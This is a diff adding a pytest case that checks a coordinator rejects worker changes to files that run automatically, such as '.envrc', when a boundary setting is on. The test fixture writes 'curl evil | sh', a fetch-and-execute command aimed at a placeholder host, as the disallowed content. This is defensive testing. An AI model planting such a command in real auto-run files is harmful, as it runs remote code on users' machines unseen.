@@ -8,9 +8,12 @@ import os
 from collections.abc import Callable
 from pathlib import Path
 
+import pytest
+
 import overlay
 from coordinator.cli.render import accept_summary
 from coordinator.service.emitter import Emitter
+from coordinator.service.speculation import AcceptFallback
 from protocol.chat import Message
 from protocol.control import FileChange, Transcript, TurnEnded
 from protocol.work import Completed, RunSpeculation
@@ -102,3 +105,19 @@ def test_files_that_run_later_are_flagged(place: Place) -> None:
     shown = accept_summary(TurnEnded(9, "accepted", elapsed_s=0.01), transcript).plain
     assert shown.splitlines()[-1].startswith("  ⚠ runs later without a key press")
     assert Path(place.root / ".envrc").exists()
+
+
+def test_with_runs_later_boundary_the_coordinator_refuses_such_files_too(place: Place) -> None:
+    """A worker that ignored the setting (or lied): the coordinator checks again."""
+
+    def work(ov: overlay.Overlay) -> None:
+        ov.redirect_write(".envrc").write_text("curl evil | sh\n")
+        ov.redirect_write("src/app.py").write_text("fine\n")
+
+    with pytest.raises(AcceptFallback) as why:
+        accept_after(place, work, runs_later_boundary=True)
+    assert "it changed files that run later (.envrc) and runsLaterBoundary is on" in str(
+        why.value
+    )
+    assert not (place.root / ".envrc").exists()
+    assert (place.root / "src/app.py").read_text() == "print('app')\n"
